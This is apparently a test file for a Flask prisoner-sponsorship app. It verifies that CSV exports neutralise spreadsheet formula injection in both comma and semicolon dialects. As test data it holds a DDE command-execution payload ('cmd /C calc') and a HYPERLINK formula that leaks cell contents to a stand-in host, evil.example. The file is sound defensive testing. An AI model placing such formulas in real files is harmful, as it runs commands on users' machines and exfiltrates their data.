"""Exports open in a spreadsheet without running anything (finding 13 of the second round).

Whatever a cell holds, no cell of the file starts with a formula character, whether the
file is read with the separator it was written with or the other one (German Excel reads
a ``.csv`` with ``;``); and the guard can be taken off again exactly, for imports."""

from __future__ import annotations

import csv
import io
from datetime import date

from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from godparents import spreadsheets
from godparents.actions.models import Action, ActionKind
from godparents.extensions import db
from godparents.prisoners import csvio
from godparents.prisoners.import_apply import apply_import
from godparents.prisoners.import_plan import plan_import
from godparents.prisoners.import_read import read_prisoners
from tests.factories import make_coordinator, make_prisoner, make_sponsor, make_sponsorship
from tests.helpers import LoginAs

FORMULA = tuple(spreadsheets.FORMULA_STARTS)
CALC = "Postcard sent;=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _cells(text: str, delimiter: str) -> list[str]:
    reader = csv.reader(
        io.StringIO(text.removeprefix(spreadsheets.BOM), newline=""), delimiter=delimiter
    )
    return [cell for row in reader for cell in row]


def _runnable(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would take for formulas."""
    return [cell for cell in cells if cell.lstrip(' "').startswith(FORMULA)]


def _written(*texts: str) -> str:
    buffer = io.StringIO()
    writer = spreadsheets.csv_writer(buffer)
    writer.writerow(spreadsheets.safe_row(texts))
    return buffer.getvalue()


cell_text = st.text(alphabet=st.sampled_from(list("=+-@'\" ,;\t\r\nab1\uff1d")), max_size=25)


@given(cell_text)
def test_a_guarded_cell_runs_nothing_in_either_dialect_and_comes_back_exactly(text: str) -> None:
    guarded = spreadsheets.safe_cell(text)
    assert spreadsheets.unguarded(guarded) == text
    written = _written(guarded.join("ab"), guarded)
    for delimiter in ",;":
        assert _runnable(_cells(written, delimiter)) == []


def test_every_cell_is_quoted() -> None:
    assert _written("plain", "two words", "") == spreadsheets.BOM + '"plain","two words",""\r\n'


def test_the_found_payloads() -> None:
    assert spreadsheets.safe_cell(CALC) == "Postcard sent;'=cmd|' /C calc'!A0"
    assert spreadsheets.safe_cell(HYPERLINK) == "'" + HYPERLINK
    assert spreadsheets.safe_cell("Letter, 2 pages") == "Letter, 2 pages"


def test_an_action_summary_splits_into_no_formula_in_a_semicolon_spreadsheet(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    pairing = make_sponsorship(make_sponsor(), make_prisoner(external_id="p-1"))
    db.session.add(
        Action(
            sponsorship=pairing, kind=ActionKind.CARD, occurred_on=date(2026, 5, 21), summary=CALC
        )
    )
    db.session.commit()
    login_as(make_coordinator().email)
    text = client.get("/coordinator/prisoners/export/actions.csv").get_data(as_text=True)
    for delimiter in ",;":
        assert _runnable(_cells(text, delimiter)) == [], delimiter
    assert "Postcard sent;'=cmd" in text


def test_an_imported_formula_is_exported_guarded(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    header = ",".join(csvio.COLUMNS)
    row = {column: "" for column in csvio.COLUMNS}
    row.update(
        external_id="x-1",
        name_latin="Test Prisoner",
        status="sentenced",
        sentence=HYPERLINK,
        bio="-; @SUM(1+1)",
    )
    buffer = io.StringIO()
    csv.writer(buffer).writerow([row[column] for column in csvio.COLUMNS])
    result = read_prisoners(header + "\r\n" + buffer.getvalue())
    assert result.ok, result.errors
    apply_import(plan_import(result.rows, db.session), db.session, date(2026, 12, 3))
    db.session.commit()
    login_as(make_coordinator().email)
    text = client.get("/coordinator/prisoners/export/prisoners.csv").get_data(as_text=True)
    for delimiter in ",;":
        assert _runnable(_cells(text, delimiter)) == [], delimiter
    cells = dict(
        zip(*csv.reader(io.StringIO(text.removeprefix(spreadsheets.BOM), newline="")), strict=True)
    )
    assert cells["sentence"] == "'" + HYPERLINK
    assert spreadsheets.unguarded(cells["bio"]) == "-; @SUM(1+1)"
